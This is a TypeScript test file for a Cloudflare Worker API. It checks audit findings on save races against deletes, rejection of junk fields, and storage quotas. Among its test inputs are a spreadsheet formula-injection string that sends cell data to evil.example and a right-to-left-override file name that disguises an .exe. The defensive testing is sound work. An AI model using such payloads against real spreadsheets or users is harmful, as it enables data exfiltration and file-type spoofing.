// Findings 3 and 5 as the attack: a save that answered with someone else's save, a PUT racing a
// DELETE, junk fields stored verbatim, and storage with no bound.
import { createExecutionContext, waitOnExecutionContext } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { createApp } from "../../worker/app.js";
import { modelFromSql, updateModelStatements } from "../../worker/db/models.js";
import { runBatch } from "../../worker/db/statements.js";
import {
  api,
  jsonOf,
  ORIGIN,
  pinWith,
  planInput,
  problemOf,
  workspaceWithKeys,
  type TestKey,
} from "./support/workspace.js";

async function create(key: TestKey, name: string, input: unknown = planInput()) {
  return jsonOf(await api("/v1/models", { key, body: { name, input } }), 201);
}

function put(key: TestKey, id: string, ifMatch: string, body: unknown) {
  return api(`/v1/models/${id}`, { method: "PUT", key, body, headers: { "If-Match": ifMatch } });
}

// The race sends hundreds of requests: in-process (app.fetch with the real env), as
// tests/worker/api-client.ts explains, since the pool's loopback slows down with every request.
const app = createApp();
async function call(path: string, init: RequestInit = {}, vars: Record<string, string> = {}) {
  const ctx = createExecutionContext();
  const res = await app.fetch(new Request(ORIGIN + path, init), { ...env, ...vars }, ctx);
  await waitOnExecutionContext(ctx);
  return res;
}

describe("finding 3: a save answered with someone else's save", () => {
  it(
    "7 writers race for 30 saves, each retrying a 412 at once with the ETag it carries: every 200 carries the save it made",
    { timeout: 120_000 },
    async () => {
      const ws = await workspaceWithKeys("race");
      const model = await create(ws.write, "start");
      const wins: { name: string; version: number }[] = [];
      let attempts = 0;
      // A careless client: it saves, and on 412 saves again straight away on top of the version the
      // 412 named, with no read in between; after a 200 it saves on top of its own version. Seven of
      // them at once keep a save landing between another save's commit and its answer.
      const writer = async (w: number) => {
        let etag = '"v1"';
        while (wins.length < 30) {
          const attempt = ++attempts;
          const mine = {
            name: `writer ${w} attempt ${attempt}`,
            input: planInput(1 + (attempt % 50)),
          };
          const res = await call(`/v1/models/${model.id}`, {
            method: "PUT",
            headers: {
              Authorization: `Bearer ${ws.write.key}`,
              "Content-Type": "application/json",
              "If-Match": etag,
            },
            body: JSON.stringify(mine),
          });
          if (res.status === 412) {
            etag = res.headers.get("etag")!;
            await problemOf(res, 412);
            continue;
          }
          const body = await jsonOf(res, 200);
          expect(body.name).toBe(mine.name);
          expect(body.input).toEqual(mine.input);
          expect(res.headers.get("etag")).toBe(`"v${body.version}"`);
          expect(`"v${body.version - 1}"`).toBe(etag);
          etag = res.headers.get("etag")!;
          wins.push({ name: mine.name, version: body.version });
        }
      };
      await Promise.all(Array.from({ length: 7 }, (_, w) => writer(w)));
      expect(attempts).toBeGreaterThan(wins.length);
      // Each answered version holds exactly the save that was told it won it.
      for (const win of wins) {
        const stored = await jsonOf(
          await api(`/v1/models/${model.id}/versions/${win.version}`, { key: ws.read }),
          200,
        );
        expect(stored.name).toBe(win.name);
      }
      expect(new Set(wins.map((w) => w.version)).size).toBe(wins.length);
    },
  );

  it("a save's answer is its own statement's RETURNING: unchanged by a save that lands right after it", async () => {
    const ws = await workspaceWithKeys("returning");
    const model = await create(ws.write, "start");
    const limits = { maxModels: 1000, maxVersions: 1000, maxBytes: 50 * 1024 * 1024 };
    const save = (name: string, expectedVersion: number) =>
      runBatch(
        env.DB,
        updateModelStatements({
          id: model.id,
          workspaceId: ws.workspaceId,
          expectedVersion,
          name,
          input: JSON.stringify(planInput()),
          actor: ws.write.keyId,
          now: Date.now(),
          limits,
          write: { pin: pinWith(0), snapshot: null, kind: "save", change: null },
        }),
      );
    const a = await save("A", 1);
    const b = await save("B", 2);
    // By now the model holds B's save; A's answer still describes A's.
    expect(modelFromSql(a[0]!.results[0] as Record<string, unknown>)).toMatchObject({
      name: "A",
      version: 2,
    });
    expect(modelFromSql(b[0]!.results[0] as Record<string, unknown>)).toMatchObject({
      name: "B",
      version: 3,
    });
    // A save that lost (stale version) returns no row and writes nothing.
    const lost = await save("C", 1);
    expect(lost[0]!.results).toEqual([]);
    expect(lost.slice(1).map((r) => r.meta.changes)).toEqual([0, 0]);
  });

  it("a PUT racing a DELETE says what happened to it: saved (200, then deleted) or not saved because deleted (404 MODEL_DELETED)", async () => {
    const ws = await workspaceWithKeys("put-vs-delete");
    const outcomes = new Set<string>();
    for (let i = 0; i < 8; i++) {
      const model = await create(ws.write, `m${i}`);
      const [saved, deleted] = await Promise.all([
        put(ws.write, model.id, '"v1"', { name: `saved ${i}`, input: planInput(2) }),
        api(`/v1/models/${model.id}`, { method: "DELETE", key: ws.write }),
      ]);
      expect(deleted.status).toBe(204);
      if (saved.status === 200) {
        const body = await jsonOf(saved, 200);
        expect(body).toMatchObject({ name: `saved ${i}`, version: 2, deletedAt: null });
        outcomes.add("saved, then deleted");
      } else {
        const p = await problemOf(saved, 404);
        expect(p.code).toBe("MODEL_DELETED");
        expect(p.detail).toContain("nothing was saved");
        // And indeed nothing was: the deleted model still has one version.
        const restored = await jsonOf(
          await api(`/v1/models/${model.id}/restore`, { method: "POST", key: ws.admin, body: {} }),
          200,
        );
        expect(restored.version).toBe(1);
        outcomes.add("not saved");
      }
    }
    expect(outcomes.size).toBeGreaterThan(0);
  });

  it("a save to a model deleted earlier is 404 MODEL_DELETED with when, not a bare 404", async () => {
    const ws = await workspaceWithKeys("deleted-first");
    const model = await create(ws.write, "gone");
    expect((await api(`/v1/models/${model.id}`, { method: "DELETE", key: ws.write })).status).toBe(
      204,
    );
    const p = await problemOf(await put(ws.write, model.id, '"v1"', { input: planInput() }), 404);
    expect(p).toMatchObject({ code: "MODEL_DELETED", field: "id" });
    expect(Date.parse(p.deletedAt as string)).toBeGreaterThan(0);
  });
});

describe("finding 5: no storage bound", () => {
  it("an unknown field in a model's input is a 400 naming it; nothing is stored", async () => {
    const ws = await workspaceWithKeys("junk");
    const p = await problemOf(
      await api("/v1/models", {
        key: ws.write,
        body: { name: "junk", input: { ...planInput(), padding: "x".repeat(500_000) } },
      }),
      400,
    );
    expect(p.field).toBe("input.padding");
    expect(p.detail).toContain('unrecognized "padding"');
    const bad = await problemOf(
      await api("/v1/models", {
        key: ws.write,
        body: { name: "junk", input: { hires: [{ ...planInput().hires[0], note: "x" }] } },
      }),
      400,
    );
    expect(bad.field).toBe("input.hires[0].note");
    expect((await jsonOf(await api("/v1/models", { key: ws.read }), 200)).models).toEqual([]);
  });

  it("names with NUL, line breaks or a right-to-left override are refused (400)", async () => {
    const ws = await workspaceWithKeys("names");
    for (const name of ["a\u0000b", "line\nbreak", "invoice\u202Efdp.exe", "tab\there"]) {
      const p = await problemOf(
        await api("/v1/models", { key: ws.write, body: { name, input: planInput() } }),
        400,
      );
      expect(p.field).toBe("name");
      expect(p.detail).toContain("must not contain control characters");
    }
    // Text that merely looks like a formula is a name like any other; sheets get it as text.
    const formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")';
    expect((await create(ws.write, formula)).name).toBe(formula);
  });

  const send = (key: TestKey, method: string, body?: unknown, headers = {}) => ({
    method,
    headers: {
      Authorization: `Bearer ${key.key}`,
      "Content-Type": "application/json",
      ...headers,
    },
    body: body === undefined ? undefined : JSON.stringify(body),
  });

  it("versions per model: over the quota a save is 409 naming the quota and the usage; every old version stays", async () => {
    const ws = await workspaceWithKeys("versions-quota");
    const quota = { VERSIONS_PER_MODEL: "3" };
    const model = await create(ws.write, "v");
    for (const v of [1, 2])
      expect(
        (
          await call(
            `/v1/models/${model.id}`,
            send(ws.write, "PUT", { input: planInput(v + 1) }, { "If-Match": `"v${v}"` }),
            quota,
          )
        ).status,
      ).toBe(200);
    const p = await problemOf(
      await call(
        `/v1/models/${model.id}`,
        send(ws.write, "PUT", { input: planInput(9) }, { "If-Match": '"v3"' }),
        quota,
      ),
      409,
    );
    expect(p).toMatchObject({
      code: "QUOTA_EXCEEDED",
      quota: "versionsPerModel",
      limit: 3,
      usage: 3,
    });
    expect(p.detail).toContain("quota of 3 versions per model: 3 used. Nothing was saved.");
    const versions = await jsonOf(
      await api(`/v1/models/${model.id}/versions`, { key: ws.read }),
      200,
    );
    expect(versions.versions.map((v: { version: number }) => v.version)).toEqual([1, 2, 3]);
  });

  it("models per workspace, deleted ones included: the next create is 409; usage says so", async () => {
    const ws = await workspaceWithKeys("models-quota");
    const quota = { MODELS_PER_WORKSPACE: "2" };
    const first = await create(ws.write, "a");
    await create(ws.write, "b");
    await api(`/v1/models/${first.id}`, { method: "DELETE", key: ws.write });
    const p = await problemOf(
      await call("/v1/models", send(ws.write, "POST", { name: "c", input: planInput() }), quota),
      409,
    );
    expect(p).toMatchObject({ code: "QUOTA_EXCEEDED", quota: "models", limit: 2, usage: 2 });
    const usage = await jsonOf(await call("/v1/usage", send(ws.read, "GET"), quota), 200);
    expect(usage.models).toEqual({ used: 2, limit: 2, deleted: 1 });
  });

  it("stored bytes: a save that would pass the quota is refused, the usage counts every version's bytes", async () => {
    const ws = await workspaceWithKeys("bytes-quota");
    const model = await create(ws.write, "bytes");
    // A version's bytes: its name, its input and its result snapshot (kept with it, see README).
    const snapshot = async (version: number) =>
      (await env.DB.prepare(
        "SELECT length(result) AS n FROM model_versions WHERE model_id = ? AND version = ?",
      )
        .bind(model.id, version)
        .first<{ n: number }>())!.n;
    const bytes = (name: string, input: unknown) =>
      new TextEncoder().encode(name).length +
      new TextEncoder().encode(JSON.stringify(input)).length;
    const usage = await jsonOf(await api("/v1/usage", { key: ws.read }), 200);
    expect(await snapshot(1)).toBeGreaterThan(100);
    expect(usage.storedBytes.used).toBe(bytes("bytes", planInput()) + (await snapshot(1)));

    const quota = { STORED_BYTES_PER_WORKSPACE: String(usage.storedBytes.used + 10) };
    const p = await problemOf(
      await call(
        `/v1/models/${model.id}`,
        send(ws.write, "PUT", { input: planInput(2) }, { "If-Match": '"v1"' }),
        quota,
      ),
      409,
    );
    expect(p).toMatchObject({
      code: "QUOTA_EXCEEDED",
      quota: "storedBytes",
      usage: usage.storedBytes.used,
    });
    const ok = await jsonOf(
      await api(`/v1/models/${model.id}`, {
        method: "PUT",
        key: ws.write,
        body: { input: planInput(2) },
        headers: { "If-Match": '"v1"' },
      }),
      200,
    );
    expect(ok.version).toBe(2);
    const after = await jsonOf(await api("/v1/usage", { key: ws.read }), 200);
    expect(after.storedBytes.used).toBe(
      bytes("bytes", planInput()) +
        (await snapshot(1)) +
        bytes("bytes", planInput(2)) +
        (await snapshot(2)),
    );
    expect(after.versionsPerModel.used).toBe(2);
  });

  it("band rows: an upload that would pass the quota is refused and the current bands stay", async () => {
    const ws = await workspaceWithKeys("bands-quota");
    const csv =
      "role,level,location,basis,currency,low,high\nML Engineer,Mid,Austin,base,USD,150000,185000\n";
    const upload = (vars: Record<string, string>) =>
      call(
        "/v1/bands",
        {
          method: "PUT",
          headers: { Authorization: `Bearer ${ws.write.key}`, "Content-Type": "text/csv" },
          body: csv,
        },
        vars,
      );
    expect((await upload({ BAND_ROWS_PER_WORKSPACE: "2" })).status).toBe(200);
    expect((await upload({ BAND_ROWS_PER_WORKSPACE: "2" })).status).toBe(200);
    const p = await problemOf(await upload({ BAND_ROWS_PER_WORKSPACE: "2" }), 409);
    expect(p).toMatchObject({ code: "QUOTA_EXCEEDED", quota: "bandRows", limit: 2, usage: 2 });
    const versions = await jsonOf(await api("/v1/bands/versions", { key: ws.read }), 200);
    expect(versions.versions).toHaveLength(2);
  });
});
